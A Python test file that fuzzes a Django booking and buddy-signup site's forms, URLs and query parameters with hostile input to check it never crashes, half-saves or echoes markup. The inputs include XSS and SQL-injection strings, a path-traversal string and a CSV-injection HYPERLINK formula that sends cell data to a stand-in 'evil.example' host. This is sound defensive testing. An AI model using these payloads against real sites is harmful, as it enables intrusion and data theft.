"""Hostile input at every public form, path segment and query parameter (hypothesis).

Never a 500, never a half-saved record, and what was typed is never echoed as markup.
Runs on SQLite and, in `make test`, on PostgreSQL (which refuses NUL characters outright).
"""

import datetime
from urllib.parse import quote

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from booking.forms import BookingForm
from booking.models import Booking, BookingEmail, WaitingListEntry
from buddies.forms import BuddySignupForm
from buddies.models import BuddySignup
from tests import clock
from tests.booking.factories import BookingFactory, OfferingFactory, SessionFactory, WaitingListEntryFactory
from tests.buddies.factories import BuddyProgramFactory

pytestmark = pytest.mark.django_db

MARKER = "<b data-fuzz>x</b>"
HOSTILE = [
    MARKER,
    "<script>alert(1)</script>",
    "\"'><svg onload=alert(1)>",
    "\x00",
    "a\x00b",
    "\x1b[31m\r\n\t",
    "' OR 1=1 --",
    "%00%ff%fe",
    "../../etc/passwd",
    "\u202e\u200b\ufeff",
    "🙂" * 50,
    "x" * 5000,
    "-1",
    "99999999999999999999999",
    "1e309",
    "[]",
]
values = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300),
    st.integers().map(str),
)
FUZZ = settings(
    max_examples=35,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Every field the forms have, and the honeypot: read from the forms, so a new field is fuzzed too.
BOOKING_FIELDS = list(BookingForm.base_fields)
BUDDY_FIELDS = list(BuddySignupForm.base_fields)


@pytest.fixture(autouse=True)
def bursts_allowed(settings):
    settings.RANGKUL_RATE_LIMITS_ENABLED = False  # the fuzzer is one client sending many forms


@pytest.fixture
def world():
    offering = OfferingFactory(slug="kelompok-uji", places_per_session=3)
    start = clock.now() + datetime.timedelta(days=3)
    session = SessionFactory(offering=offering, start=start, original_start=start)
    full = SessionFactory(
        offering=OfferingFactory(slug="kelompok-penuh", places_per_session=1),
        start=start,
        original_start=start,
    )
    BookingFactory(session=full)
    BuddyProgramFactory(slug="buddy-uji")
    return {
        "session": session,
        "booking": BookingFactory(session=session, email="ada@contoh.id"),
        "entry": WaitingListEntryFactory(session=full),
    }


def records():
    return (
        Booking.objects.count(),
        WaitingListEntry.objects.count(),
        BuddySignup.objects.count(),
        BookingEmail.objects.count(),
    )


def assert_safe(response, *, saved_before, allowed_to_save):
    assert response.status_code < 500, response.status_code
    if MARKER in str(response.content.decode(errors="replace")):
        raise AssertionError("input echoed as markup")
    if not allowed_to_save(response):
        assert records() == saved_before, "a refused form saved something"


def refused(response):
    return response.status_code != 302


@FUZZ
@given(data=st.fixed_dictionaries({}, optional=dict.fromkeys(BOOKING_FIELDS, values)))
def test_the_booking_form(client, world, data):
    before = records()
    for path in ("/id/booking/kelompok-uji/", "/en/booking/kelompok-penuh/"):
        response = client.post(path, data)
        assert_safe(response, saved_before=before, allowed_to_save=lambda r: not refused(r))
        before = records()


@FUZZ
@given(
    data=st.fixed_dictionaries({}, optional=dict.fromkeys(BUDDY_FIELDS, values)),
    side=st.sampled_from(["mentee", "buddy"]),
)
def test_the_buddy_sign_up_form(client, world, data, side):
    before = records()
    response = client.post(f"/id/buddy/buddy-uji/{side}/", data)
    assert_safe(response, saved_before=before, allowed_to_save=lambda r: not refused(r))


@FUZZ
@given(value=values, field=st.sampled_from(["confirm", "session", "note", "csrfmiddlewaretoken"]))
def test_the_manage_and_waiting_forms(client, world, value, field):
    booking, entry = world["booking"], world["entry"]
    for path in (
        f"/id/booking/manage/{booking.manage_token}/cancel/",
        f"/id/booking/manage/{booking.manage_token}/move/",
        f"/id/booking/waiting/{entry.manage_token}/book/",
        f"/id/booking/waiting/{entry.manage_token}/leave/",
    ):
        response = client.post(path, {field: value})
        assert response.status_code < 500, (path, response.status_code)
        assert MARKER not in response.content.decode(errors="replace")


@FUZZ
@given(segment=values)
def test_every_path_segment(client, world, segment):
    quoted = quote(segment[:500], safe="")
    for template in (
        "/id/booking/{}/",
        "/id/booking/manage/{}/",
        "/id/booking/manage/{}/calendar/",
        "/id/booking/waiting/{}/",
        "/id/buddy/{}/",
        "/id/buddy/buddy-uji/{}/",
        "/id/buddy/manage/{}/",
        "/id/{}/",
        "/en/services/{}/",
    ):
        response = client.get(template.format(quoted))
        assert response.status_code < 500, (template, segment, response.status_code)
        assert MARKER not in response.content.decode(errors="replace")


@FUZZ
@given(value=values, parameter=st.sampled_from(["session", "day", "q", "page", "next"]))
def test_every_query_parameter(client, world, value, parameter):
    for path in (
        "/id/booking/kelompok-uji/",
        "/id/search/",
        "/en/search/",
        "/id/",
        "/id/buddy/buddy-uji/mentee/",
    ):
        response = client.get(path, {parameter: value})
        assert response.status_code < 500, (path, parameter, value, response.status_code)
        assert MARKER not in response.content.decode(errors="replace")


@FUZZ
@given(raw=st.binary(max_size=400))
def test_bytes_that_are_not_utf8(client, world, raw):
    body = b"name=" + quote(raw, safe="").encode() + b"&email=" + quote(raw[::-1], safe="").encode()
    before = records()
    for path in ("/id/booking/kelompok-uji/", "/id/buddy/buddy-uji/mentee/"):
        response = client.generic("POST", path, body, content_type="application/x-www-form-urlencoded")
        assert_safe(response, saved_before=before, allowed_to_save=lambda r: False)
    assert client.get("/id/search/?q=" + quote(raw, safe="")).status_code < 500


# Django reads form bodies as UTF-8 only; a charset it does not know is read as UTF-8.
CHARSETS = ["utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis"]
FORM_PATHS = ["/id/booking/kelompok-uji/", "/id/buddy/buddy-uji/mentee/", "/admin/login/"]


@pytest.mark.parametrize("charset", CHARSETS)
@pytest.mark.parametrize("path", FORM_PATHS)
def test_a_body_in_another_charset_gets_the_400_page(world, charset, path):
    # CSRF checks on, as in production: Django's own error handlers read the body again here.
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.get("/admin/login/")  # the CSRF cookie
    body = f"csrfmiddlewaretoken={client.cookies['csrftoken'].value}&name=Siti&email=siti@contoh.id"
    before = records()
    response = client.generic(
        "POST",
        path,
        body.encode("utf-16") if charset.startswith("utf-16") else body.encode(),
        content_type=f"application/x-www-form-urlencoded; charset={charset}",
    )
    assert response.status_code == 400, response.status_code
    assert "tidak dapat membaca" in response.content.decode()
    assert "could not read" in response.content.decode()
    assert records() == before


FORMULAS_AND_CONTROLS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Klik")',
    "+62 812",
    "-1+1",
    "@SUM(A1)",
    "0812\x0b\x01",
    "Siti\u202eahmaR",
    "Si\u200bti",
    "\u2066Budi\u2069",
    ("a" * 250) + "@contoh.id",
    "x@" + ("a" * 260) + ".id",
]


@pytest.mark.parametrize("value", FORMULAS_AND_CONTROLS)
@pytest.mark.parametrize(
    "field", ["name", "email", "phone", "school_class", "guardian_name", "guardian_contact"]
)
def test_formulas_control_characters_and_long_values_in_the_booking_form(client, world, value, field):
    from tests.booking.test_views import form_data

    before = records()
    response = client.post("/id/booking/kelompok-uji/", form_data(world["session"], **{field: value}))
    assert_safe(response, saved_before=before, allowed_to_save=lambda r: r.status_code == 302)


def test_a_form_sent_without_its_security_token_gets_a_page_that_says_what_to_do(world):
    client = Client(enforce_csrf_checks=True)
    before = records()
    response = client.post("/id/booking/kelompok-uji/", {"name": "Siti", "email": "siti@contoh.id"})
    assert response.status_code == 403
    assert "perlu dimuat ulang" in response.content.decode()
    assert "needs to be reloaded" in response.content.decode()
    assert records() == before
